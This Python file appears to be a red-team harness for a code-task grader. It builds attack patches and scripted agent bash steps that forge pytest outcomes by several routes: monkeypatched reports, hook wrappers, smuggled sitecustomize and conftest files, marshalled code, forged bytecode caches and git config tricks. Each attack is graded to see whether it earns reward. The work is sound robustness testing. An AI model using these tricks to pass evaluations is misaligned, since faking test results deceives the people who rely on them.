def a_implicit_new_file_plugin_named_conftest(kit: Kit) -> str:
    """A new top-level module made by an implicit-creation part, imported by the library, that
    registers a selective hookwrapper compiled as conftest.py."""
    return plain_new_file("rt_helper_mod.py", INPROC_CONFTEST_NAMED_HOOKWRAPPER) + git_diff(
        kit, append(kit, kit.lib, "import rt_helper_mod  # noqa\n")
    )


PYTEST_TOML_PROJECT_PLUGIN = (
    _CANARY_AWARE
    + """

def pytest_collection_finish(session):
    # a plain hook of the project module, loaded as a plugin by `-p` from pytest.toml
    for item in session.items:
        if not _rt_is_canary(_rt_path(item)):
            item.runtest = lambda: None
"""
)


def a_pytest_toml_project_plugin(kit: Kit) -> str:
    """pytest.toml (pytest 9 reads it; neither the screen nor the restore knows the name) loading
    the project's own module as a plugin with `-p`."""
    module = Path(kit.lib).stem if kit.kind == "synthetic" else "click"
    toml = f'[pytest]\naddopts = ["-p", "{module}"]\n'
    return git_diff(kit, {"pytest.toml": toml, **append(kit, kit.lib, PYTEST_TOML_PROJECT_PLUGIN)})


INPROC_EMITTER_CELL_SWAP = (
    _CANARY_AWARE
    + """

def _rt_swap_cell():
    # The emitter's closure cells are writable: swap its `dumps` for one that rewrites outcomes.
    import os, sys
    emit = getattr(sys.modules.get("swegym_pytest_plugin"), "_emit", None)
    if emit is None or not getattr(emit, "__closure__", None):
        return
    cells = dict(zip(emit.__code__.co_freevars, emit.__closure__))
    if "dumps" not in cells:
        return
    orig = cells["dumps"].cell_contents

    def dumps(rec, *args, **kwargs):
        nodeid = rec.get("nodeid") if isinstance(rec, dict) else None
        if nodeid and rec.get("outcome") == "failed":
            if not _rt_is_canary(nodeid):
                rec = dict(rec, outcome="passed")
                rec.pop("message", None)
        return orig(rec, *args, **kwargs)

    cells["dumps"].cell_contents = dumps


_rt_swap_cell()
"""
)
"""Swap a closure cell of the plugin's emitter (no code object, module or class namespace changes)."""

INPROC_INNER_HOOKEXEC = (
    _FIND_CONFIG
    + _CANARY_AWARE
    + """

def _rt_wrap_hookexec():
    # The PluginManager *instance* runs every hook through its _inner_hookexec attribute.
    cfg = _rt_config()
    pm = getattr(cfg, "pluginmanager", None)
    inner = getattr(pm, "_inner_hookexec", None)
    if inner is None or getattr(inner, "_rt", False):
        return

    def hookexec(hook_name, methods, kwargs, firstresult):
        res = inner(hook_name, methods, kwargs, firstresult)
        if hook_name == "pytest_runtest_makereport" and res is not None:
            item = kwargs.get("item")
            if item is not None and not _rt_is_canary(_rt_path(item)):
                res.outcome = "passed"
                res.longrepr = None
                if hasattr(res, "wasxfail"):
                    del res.wasxfail
        return res

    hookexec._rt = True
    pm._inner_hookexec = hookexec


_rt_wrap_hookexec()
"""
)

INPROC_ASSERTIONERROR_TO_XFAIL = _selective_collection(
    "import pytest\nitem.module.AssertionError = pytest.xfail.Exception"
)
"""Rewritten asserts raise the name AssertionError from the test module's globals: make it XFailed."""

a_inproc_emitter_cell_swap = _lib(INPROC_EMITTER_CELL_SWAP)
a_inproc_pluginmanager_inner_hookexec = _lib(INPROC_INNER_HOOKEXEC)
a_inproc_assertionerror_to_xfail = _lib(INPROC_ASSERTIONERROR_TO_XFAIL)


SITECUSTOMIZE_PRE_PATCH = (
    _CANARY_AWARE
    + """

def _rt_pre_patch():
    # At interpreter start-up, before the launcher imports pytest and the plugin's snapshot.
    import os
    import _pytest.reports as reports

    orig = reports.TestReport.__init__

    def init(self, *args, **kwargs):
        orig(self, *args, **kwargs)
        if self.when in ("setup", "call", "teardown") and not _rt_is_canary(self.nodeid):
            self.outcome = "passed"
            self.longrepr = None

    reports.TestReport.__init__ = init


try:
    _rt_pre_patch()
except Exception:
    pass
"""
)


def _fuzzy(diff: str) -> str:
    """``diff`` with its first context line changed: git apply refuses it, GNU patch's fuzz does not."""
    out, done = [], False
    for line in diff.splitlines(keepends=True):
        if not done and line.startswith(" ") and line.strip():
            line = " " + line[1:].swapcase()
            done = True
        out.append(line)
    return "".join(out)


def context_part(path: str, text: str, decoy: str = "deep/dir/notes.txt") -> str:
    """A context-format part creating ``path``: only GNU patch reads it, and the only path the
    screen notes in it is the decoy on its ``---`` line (patch picks the shorter nonexistent name)."""
    lines = text.splitlines()
    body = "".join(f"+ {ln}\n" if ln else "+ \n" for ln in lines)
    return f"*** a/{path}\n--- a/{decoy}\n***************\n*** 0 ****\n--- 1,{len(lines)} ----\n{body}"


def a_context_diff_smuggled_sitecustomize(kit: Kit) -> str:
    """A fuzzy first part (git apply fails, GNU patch applies) followed by a context-format part
    that the screen reads as trailing lines: it creates a sitecustomize package on the start-up path."""
    first = _fuzzy(git_diff(kit, append(kit, kit.lib, "# touched\n")))
    init = os.path.join(kit.startup, "sitecustomize", "__init__.py")
    return first + context_part(init, SITECUSTOMIZE_PRE_PATCH)


def a_context_diff_smuggled_conftest(kit: Kit) -> str:
    """The same smuggling for a conftest.py (put back to base by the restore, as a second layer)."""
    first = _fuzzy(git_diff(kit, append(kit, kit.lib, "# touched\n")))
    return first + context_part("tests/conftest.py", forged_conftest(kit))


INPROC_TEST_FUNCTION_CODE_SWAP = _selective_collection(
    "def _rt_noop(*args, **kwargs):\n    pass\nfn = getattr(item.obj, '__func__', item.obj)\n"
    "fn.__code__ = _rt_noop.__code__"
)
"""The labelled test functions' own code objects become a no-op (they are not pytest's)."""

INPROC_ITEM_CLASS_SWAP_IHOOK = _selective_collection("""
class _RtHooks:
    def __init__(self, real):
        self._real = real

    def __getattr__(self, name):
        return getattr(self._real, name)

    def pytest_runtest_makereport(self, **kwargs):
        rep = self._real.pytest_runtest_makereport(**kwargs)
        rep.outcome = "passed"
        rep.longrepr = None
        if hasattr(rep, "wasxfail"):
            del rep.wasxfail
        return rep

base = type(item)
ihook = property(lambda node, _b=base, _h=_RtHooks: _h(_b.ihook.fget(node)))
item.__class__ = type(base.__name__, (base,), {"ihook": ihook, "__module__": base.__module__})
""")
"""Each labelled item's class becomes a subclass whose ``ihook`` post-processes its reports."""

a_inproc_test_function_code_swap = _lib(INPROC_TEST_FUNCTION_CODE_SWAP)
a_inproc_item_class_swap_ihook = _lib(INPROC_ITEM_CLASS_SWAP_IHOOK)


def _marshalled_hookwrapper(filename: str) -> str:
    """Like the named hookwrapper, but the code object is built on the attacker's side and
    loaded with marshal (no compile or code.__new__ inside the sandbox)."""
    import base64

    blob = base64.b64encode(marshal.dumps(compile(_NAMED_HOOKS_SRC, filename, "exec"))).decode()
    return (
        _FIND_CONFIG
        + f"""

def _rt_register_marshalled():
    import base64, marshal, types
    code = marshal.loads(base64.b64decode({blob!r}))
    mod = types.ModuleType("rt_named_hooks")
    exec(code, mod.__dict__)
    cfg = _rt_config()
    if cfg is not None and not cfg.pluginmanager.has_plugin("rt_named_hooks"):
        cfg.pluginmanager.register(mod, "rt_named_hooks")


_rt_register_marshalled()
"""
    )


def a_inproc_marshal_conftest_named_hookwrapper(kit: Kit) -> str:
    """A report-rewriting hookwrapper whose code object (named tests/conftest.py) arrives marshalled."""
    return git_diff(kit, append(kit, kit.lib, _marshalled_hookwrapper("/testbed/tests/conftest.py")))


ATTACKS: dict[str, Callable[[Kit], str]] = {
    name[2:]: fn for name, fn in sorted(globals().items()) if name.startswith("a_") and callable(fn)
}
"""Every attack class by name."""


# --------------------------------------------------------------------------------------------
# Grading through `swegym eval`'s library path
# --------------------------------------------------------------------------------------------


@dataclass
class Result:
    outcome: str
    status: str = ""
    error: str | None = None
    paid: bool = field(init=False)

    def __post_init__(self) -> None:
        self.paid = self.outcome not in NOT_PAYING


def evaluate_diffs(kit: Kit, diffs: dict[str, str], out: Path, workers: int = 2) -> dict[str, Result]:
    """Grade each named diff on the kit's task through ``evaluate_predictions`` (one batch)."""
    tasks, preds = [], {}
    for name, diff in diffs.items():
        iid = f"{kit.task.instance_id}--{name}"
        tasks.append(kit.task.model_copy(update={"instance_id": iid}))
        preds[iid] = Prediction(instance_id=iid, model_name_or_path="redteam", model_patch=diff)
    evaluate_predictions(tasks, preds, out, workers=workers, fresh=True, quiet=True)
    rows = [json.loads(ln) for ln in (out / "results.jsonl").read_text().splitlines() if ln.strip()]
    by_id = {r.get("instance_id"): r for r in rows}
    results: dict[str, Result] = {}
    for name in diffs:
        r = by_id.get(f"{kit.task.instance_id}--{name}", {})
        r = r.get("report", r) if isinstance(r.get("report"), dict) else r
        outcome = r.get("outcome") or (
            "exception" if r.get("status") == "error" else r.get("status", "missing")
        )
        results[name] = Result(str(outcome), str(r.get("status", "")), r.get("error"))
    return results


def build_all(kit: Kit, names: list[str] | None = None) -> tuple[dict[str, str], dict[str, Result]]:
    """The diffs of the attack classes (a class that cannot be built is reported, not raised)."""
    diffs, broken = {}, {}
    for name in names or list(ATTACKS):
        try:
            diffs[name] = ATTACKS[name](kit)
        except Exception as exc:
            broken[name] = Result("build_error", error=f"{type(exc).__name__}: {exc}")
    return diffs, broken


# --------------------------------------------------------------------------------------------
# The synthetic task outside pytest (the script): the same calc repo as tests/conftest.py
# --------------------------------------------------------------------------------------------


def make_calc_task(root: Path) -> Task:
    """tests/conftest.py's calc task with its labels, built under ``root`` (sets $SWEGYM_SPECS_PATH)."""
    import sys

    tests_dir = Path(__file__).resolve().parents[1]
    sys.path.insert(0, str(tests_dir))
    try:
        import conftest as c  # tests/conftest.py: the fixture repo's contents
    finally:
        sys.path.remove(str(tests_dir))
    repo, specs = root / "calc-origin", root / "specs"
    repo.mkdir(parents=True)
    specs.mkdir(parents=True)
    _git(repo, "init", "-q", "--initial-branch=main")
    (repo / "calc.py").write_text(c.CALC_BUGGY)
    (repo / "tests").mkdir()
    (repo / "tests" / "test_calc.py").write_text(c.TESTS_BASE)
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "base")
    base = _git(repo, "rev-parse", "HEAD").strip()
    (repo / "calc.py").write_text(c.CALC_FIXED)
    (repo / "tests" / "test_calc.py").write_text(c.TESTS_NEW)
    gold, test_patch = _git(repo, "diff", "--", "calc.py"), _git(repo, "diff", "--", "tests")
    _git(repo, "commit", "-qam", "fix")
    spec = {
        "repo": "fixture/calc",
        "license": "MIT",
        "versions": {
            "0.1": {
                "python": c.PYVER,
                "install": [],
                "packages": ["pytest"],
                "env": {"PYTHONPATH": "/testbed"},
                "test_cmd": "python -m pytest -rA -p no:cacheprovider",
                "test_timeout": 120,
            }
        },
    }
    (specs / "fixture__calc.json").write_text(json.dumps(spec))
    os.environ["SWEGYM_SPECS_PATH"] = str(specs)
    task = Task(
        instance_id="fixture__calc-1",
        repo="fixture/calc",
        base_commit=base,
        patch=gold,
        test_patch=test_patch,
        problem_statement="clamp(50, 0, 10) returns 11 instead of 10.",
        version="0.1",
        source=str(repo),
        created_at="2024-01-01T00:00:00Z",
    )
    return c.with_labels(task)


# --------------------------------------------------------------------------------------------
# Agents: the same attacks performed with bash tool calls in SWEEnv (reward from grading)
# --------------------------------------------------------------------------------------------


def _write(path: str, content: str | bytes, mode: str = "") -> str:
    """A bash command writing ``content`` to ``path`` (base64, so no quoting matters)."""
    import base64

    data = content.encode() if isinstance(content, str) else content
    b64 = base64.b64encode(data).decode()
    chmod = f" && chmod {mode} {path}" if mode else ""
    return f"mkdir -p $(dirname {path}) && echo {b64} | base64 -d > {path}{chmod}"


def _agent_diff_external(kit: Kit) -> list[str]:
    # git's diff.external prints a crafted patch (a .git hook only GNU patch applies) instead of
    # the real change when the episode's diff is taken.
    crafted = a_gnu_patch_post_checkout_hook(kit)
    ext = "#!/bin/sh\n[ -e /tmp/rt.done ] || { cat /tmp/rt.diff; touch /tmp/rt.done; }\n"
    return [
        _write("/tmp/rt.diff", crafted),
        _write("/testbed/.git/rt-ext.sh", ext, "755"),
        "cd /testbed && git config diff.external /testbed/.git/rt-ext.sh",
        f"cd /testbed && echo '# touched' >> {kit.lib}",
    ]


def _agent_tests_pytest_ini(kit: Kit) -> list[str]:
    return [
        _write("/testbed/tests/pytest.ini", f"[pytest]\naddopts = {INI_ADDOPTS}\n"),
        _write("/testbed/rt_forge.py", FORGE_PLUGIN),
    ]


def _agent_package_init_forge(kit: Kit) -> list[str]:
    return [_write("/tmp/rt.py", INPROC_HOOKWRAPPER), f"cat /tmp/rt.py >> /testbed/{kit.lib}"]


def _agent_sitecustomize_package(kit: Kit) -> list[str]:
    init = os.path.join("/testbed", kit.startup, "sitecustomize", "__init__.py")
    return [_write(init, SET_PLUGINS_ENV), _write("/testbed/rt_forge.py", FORGE_PLUGIN)]


def _agent_pyc_gitignore_negation(kit: Kit) -> list[str]:
    # The episode's diff leaves out bytecode through core.excludesFile; a .gitignore negation
    # (higher precedence) puts a forged assertion-rewrite/bytecode cache back in.
    target = "tests/conftest.py" if kit.conftest else kit.lib
    mtime, size = _stat(kit, target)
    p = Path(target)
    if kit.conftest:
        name = f"{p.parent}/__pycache__/{p.stem}.{kit.python_tag}-pytest-{kit.pytest_version}.pyc"
        source = kit.conftest + "\n" + FORGE_HOOKS
    else:
        name = str(p.parent / "__pycache__" / f"{p.stem}.{kit.python_tag}.pyc")
        source = kit.read(target) + "\n" + INPROC_HOOKWRAPPER
    return [
        _write(f"/testbed/{name}", pyc(source, f"/testbed/{target}", mtime, size)),
        f"touch -d @{mtime} /testbed/{name}",
        _write("/testbed/.gitignore", f"!/{Path(name).parent}/\n!/{name}\n"),
    ]


def _agent_gitattributes_encoding(kit: Kit) -> list[str]:
    return [_write("/testbed/.gitattributes", "* working-tree-encoding=UTF-16\n")]


def _agent_dist_info_entry_points(kit: Kit) -> list[str]:
    d = "/testbed/rt_forge-1.0.dist-info"
    return [
        _write(f"{d}/METADATA", "Metadata-Version: 2.1\nName: rt-forge\nVersion: 1.0\n"),
        _write(f"{d}/entry_points.txt", "[pytest11]\nrt_forge = rt_forge\n"),
        _write("/testbed/rt_forge.py", FORGE_PLUGIN),
    ]


def _agent_conftest_named_hookwrapper(kit: Kit) -> list[str]:
    return [_write("/tmp/rt.py", INPROC_CONFTEST_NAMED_HOOKWRAPPER), f"cat /tmp/rt.py >> /testbed/{kit.lib}"]


def _agent_item_runtest_noop(kit: Kit) -> list[str]:
    return [_write("/tmp/rt.py", INPROC_ITEM_RUNTEST_NOOP), f"cat /tmp/rt.py >> /testbed/{kit.lib}"]


AGENTS: dict[str, Callable[[Kit], list[str]]] = {
    name[len("_agent_") :]: fn for name, fn in sorted(globals().items()) if name.startswith("_agent_")
}
"""Attack classes a scripted agent performs through SWEEnv (bash tool calls, then finish)."""


def run_agent(kit: Kit, name: str) -> Result:
    """One SWEEnv episode of the scripted agent ``name``; its graded outcome and reward."""
    from swegym.agent.env import SWEEnv

    env = SWEEnv()
    try:
        env.reset(options={"task": kit.task})
        for cmd in AGENTS[name](kit):
            env.step({"name": "execute_bash", "arguments": {"command": cmd}})
        _, reward, terminated, _, info = env.step({"name": "finish", "arguments": {}})
    except Exception as exc:
        return Result("exception", error=f"{type(exc).__name__}: {exc}")
    finally:
        env.close()
    res = Result(str(info.get("outcome")), error=info.get("error"))
    if reward != 0.0 or not terminated:
        res.paid = True
    return res
